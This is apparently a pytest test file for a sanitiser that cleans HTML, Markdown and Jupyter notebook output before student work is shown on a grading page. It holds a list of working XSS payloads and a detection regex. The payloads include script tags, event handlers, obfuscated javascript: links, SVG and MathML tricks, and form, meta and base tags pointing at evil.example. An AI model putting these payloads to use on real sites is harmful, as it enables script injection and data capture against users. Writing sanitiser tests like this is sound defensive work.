"""Nothing a student wrote runs in a reader's browser, and what a worked answer needs stays."""

import base64
import re

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from eqlib.grading.page import clean_bundle, clean_html, clean_notebook, markdown_to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/seen.png'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<form action='//evil.example'><input name=score class=score></form>",
    "<object data='javascript:alert(1)'></object><embed src='x.swf'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
    "<div id=score class='score mark-graded' name=top>x</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
]
#: What must not be left: tags that run or load, handlers, addresses that run, places outside the page.
RUNS = re.compile(
    r"<\s*(script|style|iframe|object|embed|form|input|meta|base|link|svg|template)\b"
    r"|<[^>]*\son\w+\s*="
    r"|<[^>]*(javascript:|srcdoc|evil\.example|data:text)"
    r"|<[^>]*\s(id|name)=|class=.?[^>]*(score|mark-graded)|position\s*:",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless(html):
    assert not RUNS.search(clean_html(html)), clean_html(html)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_in_markdown_is_harmless(html):
    assert not RUNS.search(markdown_to_html(f"Before {html}\n\n{html}\n\nafter"))


def test_a_link_made_in_markdown_cannot_run():
    assert "javascript" not in markdown_to_html("[x](javascript:alert(1))")


def test_what_an_answer_needs_stays():
    page = clean_html(
        '<table class="dataframe"><tr><th scope="col">K</th></tr>'
        '<tr><td style="color:red">1.4e2</td></tr></table>'
        '<p role="status" aria-label="note">Fe<sup>3+</sup></p><a href="https://example.org">source</a>'
    )
    for kept in (
        "<table",
        'scope="col"',
        "color:red",
        "<sup>3+</sup>",
        'aria-label="note"',
        "https://example.org",
    ):
        assert kept in page


def test_a_drawing_becomes_an_image_with_its_words():
    page = clean_html('<svg aria-label="a red well" width="9"><circle r="4"/></svg>')
    assert page.startswith('<img alt="a red well" src="data:image/svg+xml;base64,')
    drawing = base64.b64decode(re.search(r"base64,([^\"]+)", page)[1]).decode()
    assert "<circle" in drawing


def test_formulas_in_markdown_stay_formulas():
    page = markdown_to_html("As $Q < K$ it shifts.")
    assert "<math" in page
    assert "<mi>K</mi>" in page


def test_a_page_of_half_a_megabyte_of_drawings_takes_no_time():
    assert "too long" in clean_html("<svg>" * 120_000)
    assert "<svg" not in clean_html("<svg <svg " * 20)


def test_outputs_keep_only_harmless_forms():
    clean = clean_bundle(
        {
            "application/javascript": "alert(1)",
            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
            "text/html": "<b onclick=alert(1)>bold</b>",
            "image/png": '"><script>alert(1)</script>',
            "text/plain": "plain",
        }
    )
    assert clean == {"text/html": "<b>bold</b>", "text/plain": "plain"}


def test_an_output_of_which_nothing_is_left_says_so():
    assert "not shown" in clean_bundle({"application/javascript": "alert(1)"})["text/plain"]


def test_a_notebook_loses_metadata_that_pages_would_use():
    shown = new_output(
        "display_data", data={"text/plain": "x"}, metadata={"image/png": {"width": '1 onload="x"'}}
    )
    code = new_code_cell("1", outputs=[shown], metadata={"tags": ['"><script>'], "trusted": True})
    words = new_markdown_cell("x", metadata={"nbgrader": {"grade_id": "a"}})
    book = new_notebook(cells=[code, words], metadata={"widgets": {"x": "</script>"}, "title": "<script>"})
    clean_notebook(book)
    assert "widgets" not in book.metadata
    assert "title" not in book.metadata
    assert dict(book.cells[0].metadata) == {}
    assert dict(book.cells[0].outputs[0].metadata) == {}
    assert book.cells[1].metadata.nbgrader.grade_id == "a"
